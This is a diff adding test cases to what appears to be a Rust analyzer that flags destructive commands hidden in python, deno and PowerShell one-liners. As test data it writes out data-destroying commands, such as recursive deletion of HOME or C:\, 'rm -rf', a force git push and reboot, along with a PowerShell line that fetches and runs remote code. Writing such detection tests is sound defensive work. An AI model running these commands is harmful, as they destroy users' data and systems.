@@ -130,6 +130,22 @@ fn python_shell_outs_and_argument_lists() {
             &["argv[python3 -c: os.execvp] rm -rf /"],
         ),
         (
+            &[
+                "python3",
+                "-c",
+                "import subprocess; subprocess.run('rm -rf build'.split())",
+            ],
+            &["argv[python3 -c: subprocess.run] rm -rf build"],
+        ),
+        (
+            &[
+                "python3",
+                "-c",
+                "import subprocess, shlex; subprocess.call(shlex.split(\"git push -f\"))",
+            ],
+            &["argv[python3 -c: subprocess.call] git push -f"],
+        ),
+        (
             &["python3", "-Bc", "__import__('os').system('reboot')"],
             &["shell[python3 -c: system] reboot"],
         ),
@@ -235,6 +251,15 @@ fn code_that_only_mentions_danger_runs_nothing() {
         (&["ruby", "-e", "puts 'FileUtils.rm_rf is dangerous'"], &[]),
         (&["php", "-r", "echo 'rm -rf /';"], &[]),
         (&["perl", "-ne", "print if /rm -rf/", "log.txt"], &[]),
+        // SQL run by code is not read (documented limit): no shell-out, nothing opaque.
+        (
+            &[
+                "python3",
+                "-c",
+                "import sqlite3; sqlite3.connect('a.db').execute('DROP TABLE t')",
+            ],
+            &[],
+        ),
     ]);
 }
 
@@ -355,6 +380,14 @@ fn node_bun_and_deno() {
             &["argv[deno eval: Deno.Command] rm -rf /"],
         ),
         (&["node", "-e", "eval(code)"], &["opaque[node -e: eval]"]),
+        (
+            &[
+                "deno",
+                "eval",
+                "Deno.removeSync(Deno.env.get('HOME'), {recursive: true})",
+            ],
+            &["argv[deno eval: Deno.removeSync] rm -rf /home/user"],
+        ),
     ]);
 }
 
@@ -503,6 +536,21 @@ fn windows_launchers() {
         (
             &["powershell", "-enc", "SQBFAFgA"],
             &["opaque[powershell -EncodedCommand]"],
+        ),
+        (
+            &[
+                "powershell",
+                "-Command",
+                "& { Remove-Item -Recurse -Force C:\\ }",
+            ],
+            &["argv[powershell -Command: Remove-Item] rm -rf /"],
+        ),
+        (
+            &["pwsh", "-c", "Get-ChildItem *.log | Remove-Item -Force"],
+            &[
+                "argv[powershell -Command] Get-ChildItem *.log",
+                "argv[powershell -Command: Remove-Item] rm -f ?",
+            ],
         ),
         (
             &["powershell", "iex (iwr https://x)"],
